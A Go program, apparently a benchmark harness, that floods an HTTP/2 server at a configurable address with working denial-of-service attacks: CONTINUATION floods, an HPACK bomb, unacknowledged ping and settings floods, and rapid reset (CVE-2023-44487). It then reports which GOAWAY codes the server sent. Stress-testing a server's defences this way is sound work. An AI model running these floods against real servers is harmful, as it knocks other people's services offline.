// h2flood: an HTTP/2 attacker of its own process, for bench/floods/run.sh. It opens connection
// after connection to ADDR for DURATION, each carrying one flood, the next as soon as the server
// closed the last, and prints one JSON line: how many connections, the bytes sent, and the GOAWAY
// error codes read. Floods: continuation (CONTINUATION frames without end), hpack (a bomb: one
// 4,000-byte field into the dynamic table, then header blocks naming it thousands of times), ping
// and settings (frames owed an acknowledgement, never read), rapid-reset (HEADERS then RST_STREAM,
// stream after stream: CVE-2023-44487).
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "the server")
	host := flag.String("host", "localhost", ":authority of the attacking requests")
	kind := flag.String("flood", "continuation", "continuation|hpack|ping|settings|rapid-reset")
	duration := flag.Duration("duration", 5*time.Second, "how long to attack")
	flag.Parse()
	flood, reads := floods(*kind, *host)
	if flood == nil {
		fmt.Fprintln(os.Stderr, "unknown flood:", *kind)
		os.Exit(2)
	}
	end := time.Now().Add(*duration)
	conns, sent, goAways := 0, int64(0), map[string]int{}
	for time.Now().Before(end) {
		n, code, err := attack(*addr, flood, reads, end)
		if err != nil {
			fmt.Fprintln(os.Stderr, "dial:", err)
			os.Exit(1)
		}
		conns++
		sent += n
		goAways[code]++
	}
	out, _ := json.Marshal(map[string]any{"flood": *kind, "connections": conns, "bytes_sent": sent, "goaway": goAways})
	fmt.Println(string(out))
}

// floods: what one attacking connection writes after its preface, and whether it reads meanwhile
// (a flood owed acknowledgements attacks by not reading).
func floods(kind, host string) (func(*http2.Framer) error, bool) {
	req := func(enc *hpack.Encoder, buf *bytes.Buffer, extra ...hpack.HeaderField) []byte {
		buf.Reset()
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: host}, {Name: ":path", Value: "/flood"}} {
			enc.WriteField(f)
		}
		for _, f := range extra {
			enc.WriteField(f)
		}
		return append([]byte(nil), buf.Bytes()...)
	}
	switch kind {
	case "continuation":
		var buf bytes.Buffer
		enc := hpack.NewEncoder(&buf)
		head := req(enc, &buf)
		buf.Reset()
		for buf.Len() < 16000 {
			enc.WriteField(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 100), Sensitive: true})
		}
		more := append([]byte(nil), buf.Bytes()...)
		return func(f *http2.Framer) error {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndStream: true}); err != nil {
				return err
			}
			for i := 0; i < 10000; i++ { // 160 MB if nothing stops it
				if err := f.WriteContinuation(1, false, more); err != nil {
					return err
				}
			}
			return nil
		}, true
	case "hpack":
		var buf bytes.Buffer
		enc := hpack.NewEncoder(&buf)
		load := req(enc, &buf, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)})
		// every later block names the table's newest entry (index 62) 4,000 times: 16 MB per 4 KB
		bomb := bytes.Repeat([]byte{0x80 | 62}, 4000)
		return func(f *http2.Framer) error {
			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: load, EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			for id := uint32(3); id < 3+2*200; id += 2 {
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: bomb, EndStream: true, EndHeaders: true}); err != nil {
					return err
				}
			}
			return nil
		}, true
	case "ping":
		return func(f *http2.Framer) error {
			return times(1000000, func() error { return f.WritePing(false, [8]byte{}) })
		}, false
	case "settings":
		return func(f *http2.Framer) error {
			return times(1000000, func() error {
				return f.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 1000})
			})
		}, false
	case "rapid-reset":
		var buf bytes.Buffer
		head := req(hpack.NewEncoder(&buf), &buf) // the same fields each time: no table use
		return func(f *http2.Framer) error {
			for id := uint32(1); id < 1<<30; id += 2 {
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
					return err
				}
				if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
					return err
				}
			}
			return nil
		}, true
	}
	return nil, false
}

// attack runs one flood on a new connection until the server closes it or the attack's end comes
// (a server that takes the flood without closing keeps one connection to the end); returns the
// bytes sent and the GOAWAY's error code read ("none" when none was read).
func attack(addr string, flood func(*http2.Framer) error, reads bool, end time.Time) (int64, string, error) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, "", err
	}
	defer c.Close()
	c.SetDeadline(end)
	if !reads {
		c.(*net.TCPConn).SetReadBuffer(4096) // a reader that does not read: the server's writes back up
	}
	w := &counter{w: c}
	io.WriteString(w, http2.ClientPreface)
	f := http2.NewFramer(w, c)
	f.WriteSettings()
	code := "none"
	var wg sync.WaitGroup
	if reads {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				fr, err := f.ReadFrame()
				if err != nil {
					return
				}
				if g, ok := fr.(*http2.GoAwayFrame); ok {
					code = g.ErrCode.String()
				}
			}
		}()
	}
	flood(f) // an error here is the server's close: what is expected
	c.(*net.TCPConn).CloseWrite()
	if !reads {
		io.Copy(io.Discard, c) // until the server's close
	}
	wg.Wait()
	return w.n, code, nil
}

// times writes n frames with write, stopping at the first error (the server's close).
func times(n int, write func() error) error {
	for i := 0; i < n; i++ {
		if err := write(); err != nil {
			return err
		}
	}
	return nil
}

type counter struct {
	w io.Writer
	n int64
}

func (c *counter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n += int64(n)
	return n, err
}
